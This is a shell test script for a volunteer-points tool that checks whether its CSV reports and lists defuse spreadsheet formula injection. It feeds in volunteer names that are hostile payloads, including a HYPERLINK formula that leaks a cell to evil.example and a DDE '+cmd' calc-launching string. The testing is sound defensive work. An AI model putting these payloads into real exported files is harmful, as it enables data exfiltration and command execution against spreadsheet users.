#!/usr/bin/env bash
# Files people open in spreadsheet programs: a volunteer whose name is a
# formula (=HYPERLINK, +, -, @, a tab in front) reaches every CSV as text
# with a ' in front, in the daemon's report CSV and in the client's --csv
# lists, while numbers (a negative balance too) stay numbers and the rest
# is RFC 4180 as before.
. "$top_srcdir/tests/lib.sh"

harness_db
daemon_start
harness_admin

vp community add C01 --name East --population 1000 >/dev/null
vp activity add clean --name Cleaning --points-per-hour 10 >/dev/null
"$VPOINTS" keygen --out "$T_DIR/s1.key" >/dev/null
vp station add S01 --community C01 --name East --pubkey "$T_DIR/s1.key.pub" >/dev/null
s1() { vp --key "$T_DIR/s1.key" "$@"; }

LINK='=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
ok "a volunteer named $LINK" s1 volunteer add V-001 --name "$LINK"
ok "... one named +1+cmd" s1 volunteer add V-002 --name "+1+cmd|' /C calc'!A0"
ok "... one named @SUM(1)" s1 volunteer add V-003 --name "@SUM(1)"
ok "... one named -2+3" s1 volunteer add V-004 --name "-2+3"
ok "... one named with a tab in front" s1 volunteer add V-005 --name "$(printf '\tTab')"
ok "... and one named plainly" s1 volunteer add V-006 --name "Plain, Name"
ok "a shift for the first" s1 shift log V-001 --activity clean \
	--start "$(t_at '-3 hours')" --end "$(t_at '-1 hours')"
month=$(date -d "$(t_at '-3 hours')" +%Y-%m)

# The cells of a CSV as Python's csv module (RFC 4180) reads them, one
# record a line, the fields joined by |.
cells() { /usr/bin/python3 -c '
import csv, sys
data = sys.stdin.buffer.read().decode("utf-8")
for rec in csv.reader(data.splitlines(keepends=True), strict=True):
    print("|".join(f.replace("\t", "<TAB>") for f in rec))'; }

s1 report monthly --month "$month" --level volunteer --format csv >"$T_DIR/report.csv"
is "the report as CSV" "$?" 0
report=$(cells <"$T_DIR/report.csv")
like "the report's formula name is text: a ' in front" "$report" "V-001|'$LINK|C01|120|2.00|"
like "... +1+cmd too" "$report" "V-002|'+1+cmd|' /C calc'!A0|C01"
like "... @SUM(1) too" "$report" "V-003|'@SUM(1)|C01"
like "... -2+3 too" "$report" "V-004|'-2+3|C01"
like "... a tab in front too" "$report" "V-005|'<TAB>Tab|C01"
like "... a plain name with a comma is as before" "$report" "V-006|Plain, Name|C01"
like "the raw bytes quote the defused cell per RFC 4180" "$(cat "$T_DIR/report.csv")" \
	"V-001,\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"Click\"\")\",C01"
is "no CSV line starts a cell with = + - @ unquoted" \
	"$(tr -d '\r' <"$T_DIR/report.csv" | grep -cE '(^|,)[=+@-][^0-9]')" 0

s1 --csv volunteer list >"$T_DIR/list.csv"
is "the client's volunteer list as CSV" "$?" 0
list=$(cells <"$T_DIR/list.csv")
like "the client's CSV defuses the formula name" "$list" "V-001|'$LINK|"
like "... and the others" "$list" "V-004|'-2+3|"
is "every record reads back with as many fields as the header" "$(/usr/bin/python3 -c '
import csv, sys
print(sorted({len(r) for r in csv.reader(open(sys.argv[1], newline=""), strict=True)}))' "$T_DIR/list.csv" | tr -d '[]' | grep -c ,)" 0

ok "SIGTERM exits 0" daemon_stop
